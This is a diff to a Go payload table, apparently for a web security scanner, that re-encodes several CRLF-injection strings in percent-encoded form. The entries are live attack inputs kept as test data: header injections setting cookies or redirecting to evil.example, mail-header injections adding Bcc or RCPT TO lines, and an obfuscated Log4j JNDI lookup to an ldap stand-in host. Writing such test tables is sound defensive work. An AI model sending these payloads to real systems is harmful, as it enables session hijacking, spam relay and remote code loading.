@@ -10,10 +10,11 @@ func init() {
 		// separator and NEL before a header injections set; the escapes
 		// written out; folding spaces; a status line or a JSON body after
 		// a blank line; OAuth's state and a language reflected.
-		attackEntry{lQ, "r", "x\u2028Set-Cookie:crlf=1", "crlf-injection", encURL},
-		attackEntry{lQ, "r", "x\u0085Set-Cookie:crlf=1", "crlf-injection", encURL},
-		attackEntry{lQ, "r", `\r\nSet-Cookie:crlf=injection`, "crlf-injection", encURL},
-		attackEntry{lH, "x-forwarded-host", `x\nLocation:https://evil.example`, "crlf-injection", 0},
+		// (Percent-encoded, as a query sends them.)
+		attackEntry{lQ, "r", "x%E2%80%A8Set-Cookie:crlf=1", "crlf-injection", 0},
+		attackEntry{lQ, "r", "x%C2%85Set-Cookie:crlf=1", "crlf-injection", 0},
+		attackEntry{lQ, "r", `%5Cr%5CnSet-Cookie:crlf=injection`, "crlf-injection", 0},
+		attackEntry{lQ, "r", `x%5CnLocation:https://evil.example`, "crlf-injection", 0},
 		attackEntry{lQ, "r", "x\r\n  Set-Cookie:crlf=1", "crlf-injection", encURL},
 		attackEntry{lQ, "r", "x\r\n\r\nHTTP/1.1 200 OK", "crlf-injection", encURL},
 		attackEntry{lQ, "r", "x\r\n\r\n{\"admin\":true}", "crlf-injection", encURL},
@@ -32,7 +33,7 @@ func init() {
 		attackEntry{lF, "email", "a@b.example\nX-Priority:1", "mail-header-injection", encURL},
 		attackEntry{lF, "email", "a@b.example\r\n\r\nInjected body spam", "mail-header-injection", encURL},
 		attackEntry{lF, "email", "a@b.example\u560a\u560dBcc:v@x.example", "mail-header-injection", encURL},
-		attackEntry{lF, "email", `"attacker\r\nRCPT TO:victim"@x.example`, "mail-header-injection", encURL},
+		attackEntry{lF, "email", `%22attacker%5Cr%5CnRCPT%20TO%3Avictim%22%40x.example`, "mail-header-injection", 0},
 		// Log4j: an empty date pattern spells nothing; the lookups that
 		// recurse until the stack overflows (CVE-2021-45105).
 		attackEntry{lH, "user-agent", "${jn${date:}di${date:':'}ldap${date:':'}//oast.example/a}", "jndi-lookup", 0},
